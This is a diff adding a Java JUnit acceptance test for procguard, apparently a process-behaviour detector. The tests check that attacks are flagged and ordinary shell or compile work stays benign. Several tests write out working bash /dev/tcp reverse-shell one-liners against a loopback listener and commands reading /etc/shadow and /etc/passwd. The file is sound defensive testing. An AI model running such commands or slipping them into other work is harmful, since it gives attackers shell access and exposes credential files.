@@ -1,0 +1,132 @@
+package io.procguard.cli;
+
+import static org.assertj.core.api.Assertions.assertThat;
+
+import com.fasterxml.jackson.databind.JsonNode;
+import com.fasterxml.jackson.databind.ObjectMapper;
+import io.procguard.core.Status;
+import java.io.IOException;
+import java.io.InputStream;
+import java.io.OutputStream;
+import java.net.InetAddress;
+import java.net.ServerSocket;
+import java.net.Socket;
+import java.nio.charset.StandardCharsets;
+import java.nio.file.Files;
+import java.nio.file.Path;
+import java.util.ArrayList;
+import java.util.List;
+import org.junit.jupiter.api.BeforeEach;
+import org.junit.jupiter.api.Test;
+import org.junit.jupiter.api.Timeout;
+import org.junit.jupiter.api.io.TempDir;
+
+/**
+ * End to end with the bundled ONNX model (no test classifier): classic attacks written the way people
+ * write them, NOT copied from the training corpus, must end SUSPICIOUS or worse, and ordinary work
+ * must stay BENIGN. These are the acceptance tests of the default model.
+ */
+@Timeout(180)
+class RunDetectionTest {
+    private static final ObjectMapper JSON = new ObjectMapper();
+
+    @TempDir
+    Path dir;
+
+    @BeforeEach
+    void needsTracing() {
+        MonitorProcess.assumeTracing();
+    }
+
+    /** Runs CMD under {@code procguard run --json} and returns the worst status any process reached. */
+    private Status worstStatus(List<String> reasonsOut, String... cmd) throws Exception {
+        List<String> args = new ArrayList<>(List.of("run", "--no-shm", "--json", "--"));
+        args.addAll(List.of(cmd));
+        MonitorProcess.Result r = MonitorProcess.run(dir, args.toArray(String[]::new));
+        Status worst = Status.UNKNOWN;
+        for (String line : r.out().lines().filter(l -> l.startsWith("{")).toList()) {
+            JsonNode n = JSON.readTree(line);
+            if (n.has("status")) {
+                Status s = Status.valueOf(n.get("status").asText());
+                if (s.code() > worst.code()) {
+                    worst = s;
+                }
+                n.path("reasons").forEach(x -> reasonsOut.add(n.path("comm").asText() + ": " + x.asText()));
+            }
+        }
+        assertThat(r.err()).as("procguard stderr").doesNotContain("Exception");
+        return worst;
+    }
+
+    @Test
+    void bashDevTcpReverseShellWhoseChildExecsShOnTheSocketIsFlagged() throws Exception {
+        try (ServerSocket listener = new ServerSocket(0, 1, InetAddress.getLoopbackAddress())) {
+            Thread attacker = new Thread(() -> {
+                try (Socket s = listener.accept()) {
+                    OutputStream out = s.getOutputStream();
+                    out.write("id\nuname -a\nexit\n".getBytes(StandardCharsets.US_ASCII));
+                    out.flush();
+                    InputStream in = s.getInputStream();
+                    in.readAllBytes();
+                } catch (IOException ignored) {
+                    // the shell may close first
+                }
+            });
+            attacker.start();
+            List<String> reasons = new ArrayList<>();
+            Status worst = worstStatus(reasons, "/bin/bash", "-c",
+                    "exec 3<>/dev/tcp/127.0.0.1/" + listener.getLocalPort() + "; sh <&3 >&3 2>&3");
+            attacker.join(10_000);
+            assertThat(worst).as("reasons: %s", reasons).isIn(Status.SUSPICIOUS, Status.MALICIOUS);
+        }
+    }
+
+    @Test
+    void interactiveBashReverseShellIsFlagged() throws Exception {
+        try (ServerSocket listener = new ServerSocket(0, 1, InetAddress.getLoopbackAddress())) {
+            Thread attacker = new Thread(() -> {
+                try (Socket s = listener.accept()) {
+                    s.getOutputStream().write("cat /etc/hostname\nexit\n".getBytes(StandardCharsets.US_ASCII));
+                    s.getInputStream().readAllBytes();
+                } catch (IOException ignored) {
+                    // the shell may close first
+                }
+            });
+            attacker.start();
+            List<String> reasons = new ArrayList<>();
+            Status worst = worstStatus(reasons, "/bin/bash", "-c",
+                    "bash -i >& /dev/tcp/127.0.0.1/" + listener.getLocalPort() + " 0>&1");
+            attacker.join(10_000);
+            assertThat(worst).as("reasons: %s", reasons).isIn(Status.SUSPICIOUS, Status.MALICIOUS);
+        }
+    }
+
+    @Test
+    void readingTheShadowFileFromAShellIsFlagged() throws Exception {
+        List<String> reasons = new ArrayList<>();
+        Status worst = worstStatus(reasons, "/bin/sh", "-c", "cat /etc/shadow > /dev/null; cat /etc/passwd > /dev/null");
+        assertThat(worst).as("reasons: %s", reasons).isIn(Status.SUSPICIOUS, Status.MALICIOUS);
+    }
+
+    @Test
+    void ordinaryShellWorkStaysBenign() throws Exception {
+        Path work = Files.createDirectory(dir.resolve("work"));
+        for (int i = 0; i < 20; i++) {
+            Files.writeString(work.resolve("file" + i + ".txt"), "line " + i + "\n".repeat(i));
+        }
+        List<String> reasons = new ArrayList<>();
+        Status worst = worstStatus(reasons, "/bin/sh", "-c",
+                "cd '" + work + "' && ls -la > /dev/null && wc -l *.txt > /dev/null && grep -r line . > /dev/null"
+                        + " && tar czf ../work.tgz . && sort file1.txt | uniq > /dev/null && date > /dev/null");
+        assertThat(worst).as("reasons: %s", reasons).isIn(Status.BENIGN, Status.UNKNOWN);
+    }
+
+    @Test
+    void compilingAProgramStaysBenign() throws Exception {
+        Path src = dir.resolve("hello.c");
+        Files.writeString(src, "#include <stdio.h>\nint main(void){puts(\"hi\");return 0;}\n");
+        List<String> reasons = new ArrayList<>();
+        Status worst = worstStatus(reasons, "gcc", "-O1", "-o", dir.resolve("hello").toString(), src.toString());
+        assertThat(worst).as("reasons: %s", reasons).isIn(Status.BENIGN, Status.UNKNOWN);
+    }
+}
